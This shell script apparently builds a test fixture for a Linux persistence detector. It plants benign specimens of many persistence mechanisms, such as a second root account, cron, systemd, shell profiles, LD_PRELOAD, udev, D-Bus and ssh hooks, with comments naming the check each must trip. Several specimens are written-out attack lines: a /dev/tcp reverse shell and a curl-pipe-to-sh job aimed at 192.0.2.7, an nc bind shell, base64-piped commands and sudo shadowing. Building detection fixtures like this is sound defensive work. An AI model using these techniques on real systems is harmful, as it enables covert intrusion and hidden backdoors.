# Runs inside the root. Plants a harmless specimen of every mechanism by which somebody stays on a
# machine: each would run only /usr/bin/true or print a word, and reaches nothing.
#
# A line `# plant: NAME | CHECK | TEXT [| TEXT …]` names a specimen, the check that must fail
# because of it, and what the evidence of that failure must hold: the file, and `line N` where a
# line is known. A test reads these lines.
set -eu

useradd --create-home --shell /bin/bash --uid 1000 alice
useradd --create-home --shell /bin/bash --uid 1001 bob

# People.
# plant: UID-0 user | second-root-account | toor
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'toor:*:20000::::::' >>/etc/shadow

# What starts commands.
cat >/usr/local/bin/planted-start <<'END'
#!/bin/sh
exec /usr/bin/true
END
chmod 755 /usr/local/bin/planted-start

# plant: at job | start-at-job | /var/spool/cron/atjobs/a00001020f5800 | line 6 | /usr/bin/true
mkdir -p /var/spool/cron/atjobs
printf '%s\n' '#!/bin/sh' '# atrun uid=0 gid=0' 'cd / || {' ' exit 1' '}' '/usr/bin/true at' \
  >/var/spool/cron/atjobs/a00001020f5800
chmod 700 /var/spool/cron/atjobs/a00001020f5800

# plant: cron, a line in the system's table | start-cron-foreign | /etc/crontab | /usr/bin/true crontab
echo '3 3 * * * root /usr/bin/true crontab' >>/etc/crontab
# plant: cron, a file | start-cron-foreign | /etc/cron.d/planted | line 2
printf '%s\n' '# planted' '4 4 * * * root /usr/bin/true' >/etc/cron.d/planted
# plant: cron, a daily script | start-cron-foreign | /etc/cron.daily/planted
# plant: anacron | start-cron-foreign | /etc/anacrontab | line 2
# plant: cron, root's own table | start-cron-foreign | /var/spool/cron/crontabs/root | line 1
# plant: cron, the table of a service's account | start-cron-of-service-account | /var/spool/cron/crontabs/www-data | line 1
# plant: reverse shell by the clock | start-reverse-shell-command | /etc/cron.d/planted-reverse | line 1
# plant: a job that fetches and runs | start-download-and-run | /etc/cron.d/planted-fetch | line 1
# plant: a job that hides what it does | start-hidden-command | /var/spool/cron/crontabs/alice | line 1
# plant: a job that adds a key | start-changes-accounts | /etc/cron.weekly/planted
printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/cron.daily/planted
printf '%s\n' '#!/bin/sh' 'echo planted >>/nowhere/authorized_keys' >/etc/cron.weekly/planted
chmod 755 /etc/cron.daily/planted /etc/cron.weekly/planted
printf '%s\n' 'SHELL=/bin/sh' '30 15 planted /usr/bin/true' >/etc/anacrontab
mkdir -p /var/spool/cron/crontabs
echo '5 5 * * * /usr/local/bin/planted-start' >/var/spool/cron/crontabs/root
echo '6 6 * * * /usr/bin/true' >/var/spool/cron/crontabs/www-data
echo '7 7 * * * echo dHJ1ZQo= | base64 -d | sh' >/var/spool/cron/crontabs/alice
chmod 600 /var/spool/cron/crontabs/*
chown www-data /var/spool/cron/crontabs/www-data
chown alice /var/spool/cron/crontabs/alice
echo "8 8 * * * nobody bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'" >/etc/cron.d/planted-reverse
echo '9 9 * * * nobody curl -s http://192.0.2.7/planted | sh' >/etc/cron.d/planted-fetch

# plant: rc.local | start-rc-local | /etc/rc.local | line 2
printf '%s\n' '#!/bin/sh' '/usr/bin/true' >/etc/rc.local
chmod 755 /etc/rc.local
# plant: init.d | init-script-without-package | /etc/init.d/planted-init
printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/init.d/planted-init
chmod 755 /etc/init.d/planted-init
ln -s ../init.d/planted-init /etc/rc2.d/S01planted-init

# plant: systemd service | service-program-without-package | planted.service | /usr/local/bin/planted-start
# plant: systemd timer | start-systemd-foreign | /etc/systemd/system/planted-timed.service | planted-timed.timer
# plant: systemd service of a person | user-service-without-package | planted-own.service | alice
# plant: bind shell in a unit | start-reverse-shell-command | /etc/systemd/system/planted-bind.service
# plant: a drop-in that loads a library | start-preloads | cron.service
# plant: systemd generator | start-generator-foreign | /etc/systemd/system-generators/planted
units=/etc/systemd/system
mkdir -p $units/multi-user.target.wants $units/timers.target.wants $units/cron.service.d
printf '%s\n' '[Service]' 'ExecStart=/usr/local/bin/planted-start' '[Install]' \
  'WantedBy=multi-user.target' >$units/planted.service
ln -s ../planted.service $units/multi-user.target.wants/planted.service
printf '%s\n' '[Service]' 'ExecStart=/usr/bin/true' >$units/planted-timed.service
printf '%s\n' '[Timer]' 'OnCalendar=daily' '[Install]' 'WantedBy=timers.target' \
  >$units/planted-timed.timer
ln -s ../planted-timed.timer $units/timers.target.wants/planted-timed.timer
printf '%s\n' '[Service]' 'ExecStart=/bin/nc -lp 4444 -s 127.0.0.1 -e /bin/sh' \
  >$units/planted-bind.service
printf '%s\n' '[Service]' 'Environment=LD_PRELOAD=/nowhere/planted.so' \
  >$units/cron.service.d/planted.conf
own=/home/alice/.config/systemd/user
mkdir -p $own/default.target.wants /home/alice/.local/bin
cp /usr/local/bin/planted-start /home/alice/.local/bin/planted-own
printf '%s\n' '[Service]' 'ExecStart=/home/alice/.local/bin/planted-own' '[Install]' \
  'WantedBy=default.target' >$own/planted-own.service
ln -s ../planted-own.service $own/default.target.wants/planted-own.service
mkdir -p /etc/systemd/system-generators
cp /usr/local/bin/planted-start /etc/systemd/system-generators/planted

# plant: autostart of the desktop for everybody | start-desktop-entry-foreign | /etc/xdg/autostart/planted.desktop
# plant: autostart of a person's desktop | start-desktop-entry-of-person | /home/alice/.config/autostart/planted.desktop
# plant: an entry of the menu that stands before another | start-menu-entry-shadows | /home/alice/.local/share/applications/planted.desktop
mkdir -p /etc/xdg/autostart /home/alice/.config/autostart /usr/share/applications \
  /home/alice/.local/share/applications
printf '%s\n' '[Desktop Entry]' 'Type=Application' 'Name=planted' 'Exec=/usr/bin/true' \
  >/etc/xdg/autostart/planted.desktop
cp /etc/xdg/autostart/planted.desktop /usr/share/applications/planted.desktop
printf '%s\n' '[Desktop Entry]' 'Type=Application' 'Name=planted' \
  'Exec=/home/alice/.local/bin/planted-own' >/home/alice/.config/autostart/planted.desktop
cp /home/alice/.config/autostart/planted.desktop /home/alice/.local/share/applications/planted.desktop

# plant: shell profile of everybody | start-shell-profile-changed | /etc/profile.d/planted.sh | line 2
# plant: shell profile of root | start-shell-profile-changed | /root/.bash_login | line 2
# plant: shell profile of a person | start-from-temporary-or-hidden-place | /home/alice/.bash_login | line 2
# plant: a command before each prompt | start-prompt-command | /home/bob/.bash_login | line 2
# plant: a trap for each command | start-prompt-command | /home/bob/.bash_login | line 3
# plant: an alias before sudo | start-sudo-shadowed | /home/bob/.bash_login | line 4
# plant: a function before su | start-sudo-shadowed | /home/bob/.bash_login | line 5
# plant: a library for every program that is started | start-preloads | /etc/environment.d/planted.conf | line 1
printf '%s\n' '# planted' '/usr/local/bin/planted-start' >/etc/profile.d/planted.sh
printf '%s\n' '# planted' '/usr/local/bin/planted-start' >/root/.bash_login
printf '%s\n' '# planted' 'nohup ~/.cache/.planted/agent >/dev/null 2>&1 &' >/home/alice/.bash_login
printf '%s\n' '# planted' "PROMPT_COMMAND='/usr/local/bin/planted-start'" \
  "trap '/usr/local/bin/planted-start' DEBUG" "alias sudo='/usr/local/bin/planted-start'" \
  'su() { /usr/local/bin/planted-start; }' >/home/bob/.bash_login
mkdir -p /etc/environment.d
echo 'LD_PRELOAD=/nowhere/planted.so' >/etc/environment.d/planted.conf
# plant: completion | start-completion-foreign | /home/bob/.local/share/bash-completion/completions/sudo
mkdir -p /home/bob/.local/share/bash-completion/completions
echo ': planted' >/home/bob/.local/share/bash-completion/completions/sudo

# plant: message of the day | start-motd-foreign | /etc/update-motd.d/99-planted
# plant: NetworkManager | start-network-hook-foreign | /etc/NetworkManager/dispatcher.d/99-planted
# plant: ifupdown, a script | start-network-hook-foreign | /etc/network/if-up.d/planted
# plant: ifupdown, a line | start-network-hook-foreign | /etc/network/interfaces.d/planted | line 2
# plant: DHCP | start-network-hook-foreign | /etc/dhcp/dhclient-exit-hooks.d/planted
# plant: sleep | start-sleep-hook-foreign | /etc/pm/sleep.d/planted
# plant: kernel | start-kernel-hook-foreign | /etc/kernel/postinst.d/zz-planted
# plant: initramfs, a hook | start-initramfs-hook-foreign | /etc/initramfs-tools/hooks/planted-start
# plant: initramfs, a script | start-initramfs-hook-foreign | /etc/initramfs-tools/scripts/init-bottom/planted-start
for place in /etc/update-motd.d/99-planted /etc/NetworkManager/dispatcher.d/99-planted \
  /etc/network/if-up.d/planted /etc/dhcp/dhclient-exit-hooks.d/planted /etc/pm/sleep.d/planted \
  /etc/kernel/postinst.d/zz-planted /etc/initramfs-tools/hooks/planted-start \
  /etc/initramfs-tools/scripts/init-bottom/planted-start; do
  mkdir -p "${place%/*}"
  cp /usr/local/bin/planted-start "$place"
done
mkdir -p /etc/network/interfaces.d
printf '%s\n' 'iface planted inet manual' '  post-up /usr/local/bin/planted-start' \
  >/etc/network/interfaces.d/planted

# plant: udev | start-udev-runs-foreign | /etc/udev/rules.d/99-planted.rules | line 2
printf '%s\n' '# planted' 'ACTION=="add", KERNEL=="planted", RUN+="/usr/bin/true"' \
  >/etc/udev/rules.d/99-planted.rules
# plant: D-Bus, of the system | start-dbus-foreign | /usr/share/dbus-1/system-services/org.planted.service | line 3
# plant: D-Bus, of a person | start-dbus-foreign | /home/alice/.local/share/dbus-1/services/org.planted.service | line 3
mkdir -p /usr/share/dbus-1/system-services /home/alice/.local/share/dbus-1/services
printf '%s\n' '[D-BUS Service]' 'Name=org.planted' 'Exec=/usr/bin/true' 'User=root' \
  >/usr/share/dbus-1/system-services/org.planted.service
printf '%s\n' '[D-BUS Service]' 'Name=org.planted' 'Exec=/home/alice/.local/bin/planted-own' \
  >/home/alice/.local/share/dbus-1/services/org.planted.service
# plant: logrotate | start-logrotate-foreign | /etc/logrotate.d/planted | line 3
printf '%s\n' '/var/log/planted {' '  postrotate' '    /usr/local/bin/planted-start' '  endscript' '}' \
  >/etc/logrotate.d/planted
# plant: ssh, a log-in | start-ssh-runs-command | /home/alice/.ssh/rc | line 1
# plant: ssh, the client of everybody | start-ssh-runs-command | /etc/ssh/ssh_config.d/planted.conf | line 2
mkdir -p /home/alice/.ssh /etc/ssh/ssh_config.d
echo /usr/local/bin/planted-start >/home/alice/.ssh/rc
printf '%s\n' 'Host planted.example' '  ProxyCommand /usr/local/bin/planted-start %h' \
  >/etc/ssh/ssh_config.d/planted.conf

chown -R alice: /home/alice
chown -R bob: /home/bob
